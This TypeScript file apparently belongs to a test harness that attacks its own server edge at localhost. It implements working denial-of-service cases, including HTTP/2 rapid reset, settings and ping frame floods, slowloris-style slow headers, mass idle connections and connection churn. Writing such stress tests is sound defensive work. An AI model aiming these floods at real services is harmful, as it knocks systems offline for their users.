import { kind } from "../kind.ts";
import type { AttackKind } from "../kind.ts";
import { garbage } from "../files.ts";

/* Attacks of anyone who reaches the edge, below HTTP/1.1: frames of HTTP/2, slow and many connections. */

export const connectionAttacks: AttackKind[] = [
  kind("visitor", "http2-random", async (attack, random) => {
    const line = await attack.line({ protocol: "h2" });
    await line.write(Buffer.concat([preface, garbage(random, random.below(5_000))]));
    await line.hold(100);
    return undefined;
  }),
  kind("visitor", "http2-rapid-reset", async (attack) => {
    const line = await attack.line({ protocol: "h2" });
    const streams = Array.from({ length: 300 }, (_, n) => {
      const id = 2 * n + 1;
      return Buffer.concat([frame(1, 5, id, requestBlock), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
    });
    await line.write(Buffer.concat([preface, frame(4, 0, 0, Buffer.alloc(0)), ...streams]));
    await line.hold(300);
    return undefined;
  }),
  kind("visitor", "http2-settings-flood", async (attack, random) => {
    const line = await attack.line({ protocol: "h2" });
    const [type, payload] = random.pick([
      [4, Buffer.alloc(0)],
      [6, Buffer.alloc(8)],
      [9, garbage(random, 64)],
      [8, Buffer.from([0, 0, 0, 1])],
    ] as const);
    const flood = Array.from({ length: 2_000 }, () => frame(type, 0, type === 9 ? 1 : 0, Buffer.from(payload)));
    await line.write(Buffer.concat([preface, frame(4, 0, 0, Buffer.alloc(0)), ...flood]));
    await line.hold(300);
    return undefined;
  }),
  kind(
    "visitor",
    "slow-headers",
    async (attack) => {
      const line = await attack.line();
      await line.write("GET /v1/me HTTP/1.1\r\nHost: localhost\r\n");
      for (let n = 0; n < 6 && !line.isClosed; n++) {
        await line.hold(500);
        await line.write(`X-${n}: y\r\n`);
      }
      return undefined;
    },
    { count: 300, width: 300 },
  ),
  kind(
    "visitor",
    "connections-idle",
    async (attack, random) => {
      // Half of them without a TLS handshake: those cost the edge a connection, and the attacker nothing.
      const line = await attack.line(random.chance(0.5) ? { secure: false, port: attack.target.httpsPort } : {});
      await line.hold(6_000);
      return undefined;
    },
    { count: 2_000, width: 2_000, budgetMs: 40_000 },
  ),
  kind(
    "visitor",
    "connections-churn",
    async (attack) => {
      const line = await attack.line({ secure: false, port: attack.target.httpsPort });
      line.close();
      return undefined;
    },
    { count: 500, width: 64 },
  ),
];

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** :method GET, :scheme https, :path / from HPACK's static table, and :authority as a literal. */
const requestBlock = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, 9]), Buffer.from("localhost")]);

/** A frame of HTTP/2 (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
